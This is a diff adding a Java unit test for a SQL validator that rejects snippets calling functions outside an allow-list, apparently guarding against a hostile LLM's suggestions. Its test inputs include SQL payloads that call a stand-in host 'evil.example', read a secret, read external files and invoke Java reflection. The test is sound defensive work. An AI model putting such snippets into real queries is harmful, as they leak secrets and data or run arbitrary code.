@@ -211,6 +211,21 @@ class ValidationTest {
         assertEquals(List.of(), rules(space, new AddExampleSql("Price?", "SELECT p.list_price FROM main.sales.products p", "", why()), withSchema));
     }
 
+    /** Seen applied before the allow-list: a hostile LLM's snippets that reach the network and a secret. */
+    @Test
+    void sqlCallingAFunctionOutsideTheAllowListIsRejectedWhereverItIsWritten() {
+        fires(Problem.SQL_FUNCTIONS, new AddSqlSnippet(SnippetKind.FILTER, "evil", "",
+                "http_request('http://evil.example/x') IS NOT NULL AND orders.status = 'open'", List.of(), "", why()));
+        fires(Problem.SQL_FUNCTIONS, new AddSqlSnippet(SnippetKind.MEASURE, "key", "", "MAX(secret('scope', 'key'))", List.of(), "", why()));
+        fires(Problem.SQL_FUNCTIONS, new AddSqlSnippet(SnippetKind.EXPRESSION, "ai", "", "ai_query('m', orders.status)", List.of(), "", why()));
+        fires(Problem.SQL_FUNCTIONS, new AddExampleSql("Files?", "SELECT o.order_id FROM main.sales.orders o WHERE EXISTS "
+                + "(SELECT 1 FROM read_files('s3://bucket/x'))", "", why()));
+        fires(Problem.SQL_FUNCTIONS, new AddExampleSql("Udf?", "SELECT main.sales.leak(o.order_id) FROM main.sales.orders o", "", why()));
+        fires(Problem.SQL_FUNCTIONS, new AddExampleSql("Reflect?", "SELECT reflect('java.lang.Runtime', 'getRuntime') FROM main.sales.orders", "", why()));
+        passes(new AddSqlSnippet(SnippetKind.MEASURE, "Average order", "",
+                "ROUND(SUM(orders.order_amount) / NULLIF(COUNT(DISTINCT orders.order_id), 0), 2)", List.of(), "", why()));
+    }
+
     @Test
     void snippetColumnsMustBeQualifiedByTheirTable() {
         fires(Problem.SQL_QUALIFIED_COLUMNS, new AddSqlSnippet(SnippetKind.MEASURE, "Revenue 2", "", "SUM(order_amount)", List.of(), "", why()));
